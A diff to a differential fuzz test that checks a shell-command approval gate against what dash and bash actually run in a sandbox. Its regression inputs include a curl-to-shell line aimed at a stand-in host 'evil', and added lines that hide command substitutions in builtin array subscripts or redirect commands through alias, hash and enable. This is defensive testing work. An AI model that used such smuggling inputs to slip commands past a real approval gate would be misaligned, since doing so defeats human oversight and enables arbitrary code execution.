@@ -15,15 +15,20 @@ const execFileAsync = promisify(execFile);
  * continuations, redirections, control flow) plus the cases the security review reported. Every
  * line the gate reads as simple commands — the only lines a rule can allow — runs under dash and
  * under bash in a bubblewrap sandbox with no network, an empty working directory and a PATH of
- * argv-logging shims (every name the grammar uses is also a shell function that logs, so builtins
- * such as `echo` and `cd` are seen too). A line passes when every program or function the shell
- * ran is one the gate saw, with the same argv.
+ * argv-logging shims (the grammar's own command names are also shell functions that log; builtins
+ * such as `echo`, `test`, `read` run for real, so code they run shows up as a logged program). A
+ * line passes when every program or function the shell ran is one the gate saw, with the same argv.
  */
 
 const SEED = Number(process.env.SKALD_SHELL_DIFF_SEED ?? 17_2026);
 const LINES = Number(process.env.SKALD_SHELL_DIFF_LINES ?? 18_000);
 const NAMES = ['c1', 'c2', 'c3', 'rm', 'git', 'curl', 'sh', 'echo', 'cd', 'true', 'printf', 'test', 'kill', 'read'];
-const FUNCTIONS = NAMES.filter((n) => n !== 'sh');
+/**
+ * Names that are also logging functions (faster than a shim, and `kill` so that no generated line
+ * signals the sandbox). The other builtins run for real: what they run is what the shims log.
+ */
+const FUNCTIONS = ['c1', 'c2', 'c3', 'rm', 'git', 'curl', 'kill'];
+const LOGGING = new Set([...FUNCTIONS, 'sh']);
 
 const REGRESSIONS = [
   "echo ${U:-'}'}; curl evil|sh #'",
@@ -49,6 +54,19 @@ const REGRESSIONS = [
   'command c1 -x; exec c2 y',
   'c1\rc2',
   'c1 x\r',
+  "let 'x[$(c2 let)]'",
+  "declare -i 'x=y[$(c2 declare)]'",
+  "unset 'x[$(c2 unset)]'",
+  "shift 'x[$(c2 shift)]'",
+  "getopts a 'x[$(c2 getopts)]'",
+  "wait -n 'x[$(c2 wait)]'",
+  "ulimit 'x[$(c2 ulimit)]'",
+  "exit 'x[$(c2 exit)]'",
+  "return 'x[$(c2 return)]'",
+  "mapfile 'x[$(c2 mapfile)]'",
+  'alias c1=c2\nc1 alias',
+  'hash -p /s/c2 c1\nc1 hash',
+  'enable -n echo\necho enable',
 ];
 
 const ident = fc.constantFrom('X', 'U', 'PATH', 'IFS', 'a_1');
@@ -261,6 +279,9 @@ describe('approval gate shell reading vs dash and bash (differential)', () => {
       else if (process.env.SKALD_SHELL_DIFF_REASONS)
         reasons.set(a.reason.replace(/".*"/, '…'), (reasons.get(a.reason.replace(/".*"/, '…')) ?? 0) + 1);
     }
+    // a canary: what a naive reader would see for a substitution; the harness must flag it
+    const CANARY = 'c1 $(c2 canary)';
+    simple.push({ line: CANARY, seen: [['c1', '$(c2 canary)']] });
     const dir = mkdtempSync(join(tmpdir(), 'skald-shell-diff-'));
     try {
       mkdirSync(join(dir, 's'));
@@ -274,18 +295,24 @@ describe('approval gate shell reading vs dash and bash (differential)', () => {
       const divergences: string[] = [];
       let executed = 0;
       let logged = 0;
+      let loggable = 0;
+      let canaryCaught = 0;
       const runs = await Promise.all(
         (['dash', 'bash'] as const).map(async (shell) => [shell, await runUnder(shell, dir, lines)] as const),
       );
       for (const [shell, ran] of runs) {
         simple.forEach((s, i) => {
           const programs = ran.get(i) ?? [];
-          executed += 1;
-          if (programs.length > 0) logged += 1;
+          if (s.line !== CANARY) executed += 1;
+          if (LOGGING.has(baseName(s.seen[0][0]))) {
+            loggable += 1;
+            if (programs.length > 0) logged += 1;
+          }
           for (const argv of programs) {
             const key = JSON.stringify([baseName(argv[0]), ...argv.slice(1)]);
             const ok = s.seen.some((g) => JSON.stringify([baseName(g[0]), ...g.slice(1)]) === key);
-            if (!ok)
+            if (!ok && s.line === CANARY) canaryCaught += 1;
+            else if (!ok)
               divergences.push(
                 `${shell} ran ${key} for ${JSON.stringify(s.line)}; the gate saw ${JSON.stringify(s.seen)}`,
               );
@@ -295,7 +322,7 @@ describe('approval gate shell reading vs dash and bash (differential)', () => {
       const seconds = ((performance.now() - started) / 1000).toFixed(1);
       const report = {
         shell_lines: all.length,
-        simple_lines: simple.length,
+        simple_lines: simple.length - 1,
         shell_runs: executed,
         divergences: divergences.length,
         seed: SEED,
@@ -305,9 +332,10 @@ describe('approval gate shell reading vs dash and bash (differential)', () => {
       mkdirSync('test-results', { recursive: true });
       writeFileSync('test-results/attack-suite-shell.json', `${JSON.stringify(report)}\n`);
       expect(divergences.slice(0, 20)).toEqual([]);
+      expect(canaryCaught).toBeGreaterThanOrEqual(2); // dash and bash each ran c2 and c1 with c2's output
       expect(simple.length).toBeGreaterThanOrEqual(5000);
-      // the harness sees what runs: almost every simple line runs a logged program or function
-      expect(logged).toBeGreaterThan(executed * 0.9);
+      // the harness sees what runs: a line starting with a logging name logs (unless the shell refused it)
+      expect(logged).toBeGreaterThan(loggable * 0.9);
     } finally {
       if (!process.env.SKALD_SHELL_DIFF_KEEP) rmSync(dir, { recursive: true, force: true });
     }
